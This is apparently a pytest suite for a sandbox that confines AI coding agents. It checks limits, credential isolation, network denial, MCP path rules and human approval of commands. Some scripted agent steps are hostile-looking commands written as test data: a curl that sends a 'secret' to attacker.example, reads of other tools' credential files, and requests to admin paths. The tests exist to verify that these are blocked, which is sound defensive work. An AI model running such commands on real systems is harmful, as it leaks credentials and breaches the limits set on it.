"""An agent in its quarters, in whole runs: what it can see and reach there, what is counted, how it is stopped.

The scripted agent plays; pinned as Claude Code it is heard through a stream, pinned as opencode through the protocol.
"""

import json
import os
import socket
import socketserver
import subprocess
import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from program import PROGRAM
from repositories import git
from repositories import write as put
from runs.agents import NO_KEYS, claude, opencode, run_with_engine
from runs.scenes import Run, run_json, run_verb, scene
from wire_server import Answer, Says, serving

Engine = Callable[..., str]
RIGHT: dict[str, Any] = {"write": {"path": "answer.txt", "content": "right\n"}}
KEY = {"ANTHROPIC_API_KEY": "sk-the-real-one"}
both = pytest.mark.parametrize("engine", [claude, opencode])


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return scene(tmp_path / "repo")


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return tmp_path / "agent"


ACCOUNT = json.dumps({"claudeAiOauth": {"accessToken": "old", "expiresAt": 4102444800000}})


@pytest.fixture(autouse=True)
def account(home: Path) -> Path:
    """The user has signed in to Claude Code; there is no key, and so no model for our own engine."""
    put(home, {".claude/.credentials.json": ACCOUNT})
    return home / ".claude/.credentials.json"


@contextmanager
def listening() -> Generator[tuple[int, list[bytes]]]:
    """A server on the host that answers nothing useful; return its requests."""
    heard: list[bytes] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            heard.append(self.rfile.readline())
            self.wfile.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_address[1], heard
        finally:
            server.shutdown()


def results(ran: Run) -> list[str]:
    return [event["preview"] for event in ran.of("tool_result")]


@pytest.mark.promise("events.external-event")
@both
def test_an_agent_s_actions_are_reported_as_calls_and_results_and_counted(
    repo: Path, place: Path, engine: Engine
) -> None:
    steps = [
        {"usage": {"input": 100, "output": 7}},
        {"say": "let me see"},
        {"shell": "echo hi"},
        RIGHT,
        {"say": "done"},
    ]
    ran = run_with_engine(repo, engine(place, steps))
    assert (ran.code, ran.last["outcome"]) == (0, "verified")
    calls, ended = ran.of("tool_call"), ran.of("tool_result")
    assert [event["id"] for event in calls] == [event["id"] for event in ended]
    assert len(calls) == 2
    assert "echo hi" in calls[0]["params_preview"]
    assert "hi" in ended[0]["preview"]
    assert [event["text"] for event in ran.of("plan_text")] == ["let me see", "done"]
    assert ran.of("spend")[-1]["tokens"] > 0
    assert all("raw" in event for event in ran.of("external_event"))


@both
def test_a_red_round_is_repaired_in_the_same_conversation(repo: Path, place: Path, engine: Engine) -> None:
    ran = run_with_engine(repo, engine(place, [{"task": True}], [{"task": True}, RIGHT]))
    assert (ran.code, ran.last["iterations"]) == (0, 2)
    first, second = (event["text"] for event in ran.of("plan_text"))
    assert "Ground rules" in first
    assert "not done" not in first
    assert "Your work was checked, and it is not done" in second


# -- limits --


@pytest.mark.promise("external.limits")
@both
def test_the_runtime_counts_turns_and_stops_the_agent_at_the_limit(repo: Path, place: Path, engine: Engine) -> None:
    steps = [{"shell": f"echo {number} > n.txt; sleep 0.02"} for number in range(99)]
    ran = run_with_engine(repo, engine(place, steps, steps), "--max-turns", "3", "--max-iterations", "1")
    assert (ran.code, ran.last["outcome"]) == (1, "red")
    most = 3 if engine is opencode else 98  # over the protocol nothing runs before we allow it
    assert 3 <= len(ran.of("model_turn")) <= most


@both
def test_tokens_are_counted_during_the_work_and_the_limit_stops_the_agent(
    repo: Path, place: Path, engine: Engine
) -> None:
    steps = [{"usage": {"input": 1000, "output": 10}}, *({"shell": "echo x; sleep 0.02"} for _ in range(40))]
    ran = run_with_engine(repo, engine(place, steps), "--max-tokens", "2500")
    if engine is claude:  # over the protocol an agent reports its tokens at the end
        assert (ran.code, ran.last["outcome"]) == (5, "budget")
        assert len(ran.of("model_turn")) < 40
    assert "tokens: used" in ran.last["reason"]


def test_an_agent_that_reports_its_cost_is_counted_in_money(repo: Path, place: Path) -> None:
    ran = run_with_engine(
        repo, claude(place, [{"usage": {"input": 10, "output": 1, "usd": 0.25}}, {"say": "x"}, RIGHT]), env=KEY
    )
    assert ran.of("spend")[-1]["usd"] == pytest.approx(0.5)


# -- credentials --


@both
def test_a_refused_sign_in_waits_for_a_person_and_resumes_afterwards(repo: Path, place: Path, engine: Engine) -> None:
    steps: list[dict[str, Any]] = [{"unauthorized": True}]
    ran = run_with_engine(repo, engine(place, steps, [RIGHT]))
    assert ran.code == 3
    assert ran.last["to"] == "waiting"
    assert "sign_in" in [event["kind"] for event in ran.of("error")]
    assert [event["phase"] for event in ran.of("check_completed")][-1] in ("round", "rerun")
    went_on = run_json(repo, "resume", ran.session, "--json", env=NO_KEYS)
    assert (went_on.code, went_on.last["outcome"]) == (0, "verified")


def test_work_that_is_green_when_the_sign_in_expires_is_verified(repo: Path, place: Path) -> None:
    ran = run_with_engine(repo, claude(place, [RIGHT, {"unauthorized": True}]))
    assert (ran.code, ran.last["outcome"]) == (0, "verified")


def test_the_key_stays_outside_the_sandbox_and_the_gateway_adds_it(repo: Path, place: Path) -> None:
    ask = "curl -s -X POST -H 'x-api-key: '$ANTHROPIC_API_KEY $ANTHROPIC_BASE_URL/v1/messages -d '{\"messages\": []}'"
    with serving(Says(Answer(text="hello from the model"))) as server:
        engine = claude(
            place,
            [{"env": True}, {"shell": ask}, RIGHT],
            more=f'[model]\nuse = "anthropic:claude-sonnet-4-5"\nbase_url = "{server.url}"\n',
        )
        ran = run_with_engine(repo, engine, env=KEY)
        received = server.received
    assert ran.code == 0, ran.events
    assert "sk-the-real-one" not in json.dumps(ran.events)
    assert [one.headers["x-api-key"] for one in received] == ["sk-the-real-one"]
    assert "hello from the model" in json.dumps(ran.of("external_event"))


def test_an_agent_s_own_credentials_are_bound_and_may_rotate_and_others_are_absent(
    repo: Path, place: Path, home: Path, account: Path
) -> None:
    put(home, {".codex/auth.json": "theirs", ".claude/settings.json": "hooks"})
    rotate = "cat $CLAUDE_CONFIG_DIR/.credentials.json; printf new > $CLAUDE_CONFIG_DIR/.credentials.json"
    others = "ls -a ~; cat ~/.codex/auth.json ~/.claude/settings.json $CLAUDE_CONFIG_DIR/settings.json"
    ran = run_with_engine(repo, claude(place, [{"shell": rotate}, {"shell": others}, RIGHT]))
    assert ran.code == 0, ran.events
    assert account.read_text() == "new"
    assert results(ran)[0].startswith(ACCOUNT)
    assert "theirs" not in results(ran)[1]
    assert "hooks" not in results(ran)[1].replace("disableAllHooks", "")


# -- reachable hosts --


def test_another_host_is_unreachable_and_the_attempt_is_reported(repo: Path, place: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as host:
        port = host.getsockname()[1]
        steps = [
            {"shell": "curl -sS -m 5 https://attacker.example/?secret"},
            {"shell": f"curl -sS -m 5 http://127.0.0.1:{port}/; curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/"},
            {"shell": f"unset NO_PROXY no_proxy; curl -sS -m 5 -x $HTTP_PROXY http://127.0.0.1:{port}/"},
            RIGHT,
        ]
        ran = run_with_engine(repo, claude(place, steps))
        host.setblocking(False)
        with pytest.raises(BlockingIOError):
            host.accept()
    assert ran.code == 0, ran.events
    denied = ran.of("policy_denied")
    assert [event["rule"] for event in denied] == ["network", "network"]
    assert "attacker.example" in denied[0]["command"]
    assert "is not a host that this agent may reach" in denied[0]["reason"]


@pytest.mark.promise("external.mcp-url")
def test_an_mcp_server_is_passed_on_when_it_is_set_and_absent_otherwise(repo: Path, place: Path) -> None:
    without = run_with_engine(repo, opencode(place, [{"mcp": True}, RIGHT]))
    assert without.code == 0
    assert "47803" not in json.dumps(without.events)
    with listening() as (port, heard):
        more = f'[external]\nmcp_url = "http://127.0.0.1:{port}/mcp"\n'
        ran = run_with_engine(
            repo, opencode(place, [{"mcp": True}, RIGHT], more=more), "--check", "again=grep right answer.txt"
        )
        assert ran.code == 0
        assert heard[0].startswith(b"POST /mcp ")
        assert not ran.of("policy_denied")


def test_other_paths_of_an_mcp_server_are_unreachable_and_the_attempt_is_reported(repo: Path, place: Path) -> None:
    door = "http://127.0.0.1:47803"
    steps = [
        {"shell": f"curl -sS -m 5 {door}/private/admin; curl -sS -m 5 {door}/private/admin"},
        {"shell": f"curl -sS -m 5 -o /dev/null -w %{{http_code}} -X DELETE {door}/mcp/session"},
        RIGHT,
    ]
    with listening() as (port, heard):
        more = f'[external]\nmcp_url = "HTTP://127.0.0.1:{port}/mcp"\n'
        ran = run_with_engine(repo, claude(place, steps, more=more))
    assert ran.code == 0, ran.events
    denied = ran.one("policy_denied")
    assert (denied["rule"], denied["command"]) == ("gateway", "GET /private/admin")
    assert denied["reason"] == "GET /private/admin is not a request to the MCP server"
    assert "404" in results(ran)[1]
    assert [line.split(b" HTTP")[0] for line in heard] == [b"DELETE /mcp/session"]


# -- configuration --


@pytest.mark.promise("agent.project-settings")
@pytest.mark.parametrize("trusted", [False, True])
def test_nothing_in_the_repository_configures_the_agent_unless_the_user_allows_it(
    repo: Path, place: Path, trusted: bool
) -> None:
    put(repo, {".claude/settings.json": "hooks of the tree", ".mcp.json": "servers of the tree"})
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "settings")
    engine = claude(place, [{"shell": "cat .claude/settings.json .mcp.json"}, RIGHT])
    if trusted:
        config = Path(os.environ["XDG_CONFIG_HOME"], "donewhen", "config.toml")
        config.write_text(config.read_text() + "project_settings = true\n")
    ran = run_with_engine(repo, engine)
    assert ran.code == 0, ran.events
    assert ("of the tree" in results(ran)[0]) is trusted
    assert git(repo, "show", f"donewhen/{ran.session}:.mcp.json") == "servers of the tree"


@pytest.mark.parametrize("target", ["../{name}/plain.json", "/proc/self/cwd/plain.json"])
def test_settings_behind_a_link_that_leaves_the_tree_do_not_configure_the_agent(
    repo: Path, place: Path, target: str
) -> None:
    put(repo, {"plain.json": "servers of the tree"})
    (repo / ".mcp.json").symlink_to(target.format(name=repo.name))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "settings")
    ran = run_with_engine(repo, claude(place, [{"shell": "cat .mcp.json"}, RIGHT]))
    assert ran.code != 0
    assert "servers of the tree" not in json.dumps(ran.of("tool_result"))
    assert "through this link; remove it" in ran.one("session_finished")["reason"], ran.one("session_finished")


# -- permission --


def test_a_command_that_the_policy_denies_is_refused_over_the_protocol(repo: Path, place: Path) -> None:
    ran = run_with_engine(repo, opencode(place, [{"shell": "git push origin main"}, RIGHT]))
    assert ran.code == 0
    assert ran.one("policy_denied")["rule"] == "git-push"
    assert [event["ok"] for event in ran.of("tool_result")] == [False, True]


@pytest.mark.parametrize(("answer", "ok"), [("yes", True), ("no", False)])
def test_a_command_with_policy_ask_is_decided_by_a_person(repo: Path, place: Path, answer: str, ok: bool) -> None:
    engine = opencode(place, [{"shell": "echo deploying"}, RIGHT], more='[policy]\nask = ["echo deploying"]\n')
    command = [PROGRAM, "run", "x", "--engine", engine, "--ask", "--json"]
    with subprocess.Popen(command, cwd=repo, stdout=subprocess.PIPE, env={**os.environ, **NO_KEYS}) as running:
        assert running.stdout is not None
        events: list[dict[str, Any]] = []
        for line in running.stdout:
            events.append(json.loads(line))
            if events[-1]["type"] == "question_asked":
                assert "echo deploying" in events[-1]["prompt"]
                assert run_verb(repo, "answer", events[-1]["session"], answer).code == 0
    assert running.wait() == 0
    assert next(event["ok"] for event in events if event["type"] == "tool_result") is ok


def test_an_approval_of_one_command_does_not_count_for_another_after_a_crash(repo: Path, place: Path) -> None:
    asks = '[policy]\nask = ["echo deploying", "echo deleting"]\n'
    script = ([{"shell": "echo deploying"}, {"signal": 9}], [{"shell": "echo deleting"}, RIGHT])
    command = [PROGRAM, "run", "x", "--engine", opencode(place, *script, more=asks), "--ask", "--json"]
    with subprocess.Popen(command, cwd=repo, stdout=subprocess.PIPE, env={**os.environ, **NO_KEYS}) as running:
        assert running.stdout is not None
        events: list[dict[str, Any]] = []
        for line in running.stdout:
            events.append(json.loads(line))
            if events[-1]["type"] == "question_asked":
                answer = "yes" if "deploying" in events[-1]["prompt"] else "no"
                assert run_verb(repo, "answer", events[-1]["session"], answer).code == 0
    assert running.wait() == 0
    assert [event["ok"] for event in events if event["type"] == "tool_result"] == [True, False, True]


def test_an_acp_agent_that_prints_an_endless_line_is_stopped_and_called_again(repo: Path, place: Path) -> None:
    ran = run_with_engine(repo, opencode(place, [{"flood": {"bytes": 17 << 20, "line": 0}}, {"hang": True}], [RIGHT]))
    assert (ran.code, ran.last["outcome"], ran.last["iterations"]) == (0, "verified", 1)
    assert "a line of more than 16 MiB" in ran.one("error")["message"]


@both
def test_an_agent_can_ask_a_person_through_our_mcp_tool(repo: Path, place: Path, engine: Engine) -> None:
    call = {"name": "ask_person", "arguments": {"prompt": "right or left?"}}
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call})
    ask = f"curl -s -X POST http://127.0.0.1:47803/mcp -d '{body}'"
    command = [PROGRAM, "run", "x", "--engine", engine(place, [{"shell": ask}, RIGHT]), "--ask", "--json"]
    with subprocess.Popen(command, cwd=repo, stdout=subprocess.PIPE, env={**os.environ, **NO_KEYS}) as running:
        assert running.stdout is not None
        events: list[dict[str, Any]] = []
        for line in running.stdout:
            events.append(json.loads(line))
            if events[-1]["type"] == "question_asked":
                assert events[-1]["prompt"] == "right or left?"
                assert run_verb(repo, "answer", events[-1]["session"], "right, of course").code == 0
    assert running.wait() == 0
    assert "right, of course" in next(event["preview"] for event in events if event["type"] == "tool_result")


def test_without_a_person_the_question_tool_is_not_offered(repo: Path, place: Path) -> None:
    ran = run_with_engine(repo, claude(place, [{"shell": "curl -sS -m 5 http://127.0.0.1:47803/mcp"}, RIGHT]))
    assert ran.code == 0
    assert "Couldn't connect" in results(ran)[0]


@pytest.mark.promise("external.require")
def test_an_agent_below_the_required_governance_declines(repo: Path, place: Path) -> None:
    engine = claude(place, [RIGHT], more='[external]\nrequire = "full"\n')
    answer = run_verb(repo, "run", "x", "--engine", engine, env=NO_KEYS)
    assert answer.code == 2
    assert "claude-code is confined, but external.require is full" in answer.err
